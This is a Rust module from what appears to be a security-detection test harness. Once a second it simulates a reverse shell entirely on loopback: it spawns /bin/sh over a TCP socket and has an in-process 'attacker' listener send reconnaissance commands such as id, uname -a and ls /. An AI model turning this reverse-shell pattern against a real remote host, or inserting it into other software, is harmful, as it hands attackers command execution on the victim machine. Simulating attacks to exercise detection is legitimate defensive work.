//! reverse-shell: a shell whose standard input and output are a TCP connection made outwards,
//! driven by whoever listens at the other end: once a second a connection is made to the
//! "attacker's" listener, `/bin/sh` is started on it, and the listener sends a few commands
//! (`id`, `uname -a`, `cat /etc/hostname`, `ls /`, `exit`) and reads their output. The listening
//! end stands in for the attacker's host on loopback, in the same process; a pod that never
//! started a shell or connected out suddenly does both.
use std::{
    io::{Read, Write},
    net::{TcpListener, TcpStream},
    os::fd::OwnedFd,
    process::{Command, Stdio},
    time::Duration,
};

use anyhow::Context;
use serde_json::{json, Value};

use super::pace::Pacer;

pub const SESSIONS_PER_SECOND: u32 = 1;
const COMMANDS: &[u8] = b"id\nuname -a\ncat /etc/hostname\nls /\nexit\n";

pub fn run(duration: Duration) -> anyhow::Result<Value> {
    let listener = TcpListener::bind("127.0.0.1:0").context("listening as the attacker")?;
    let addr = listener.local_addr()?;
    let mut pacer = Pacer::new(duration, SESSIONS_PER_SECOND);
    let mut output_bytes = 0usize;
    while pacer.next() {
        let outward = TcpStream::connect(addr).context("connecting out")?;
        let (mut attacker, _) = listener.accept().context("accepting the shell's connection")?;
        attacker.set_read_timeout(Some(Duration::from_secs(5)))?;
        let fd = OwnedFd::from(outward);
        let mut shell = Command::new("/bin/sh")
            .stdin(Stdio::from(fd.try_clone()?))
            .stdout(Stdio::from(fd.try_clone()?))
            .stderr(Stdio::from(fd))
            .spawn()
            .context("starting /bin/sh on the connection")?;
        attacker.write_all(COMMANDS)?;
        let mut out = Vec::new();
        let _ = attacker.read_to_end(&mut out);
        output_bytes += out.len();
        shell.wait().context("waiting for the shell")?;
    }
    Ok(json!({ "sessions": pacer.done(), "commands_per_session": 4, "output_bytes": output_bytes }))
}
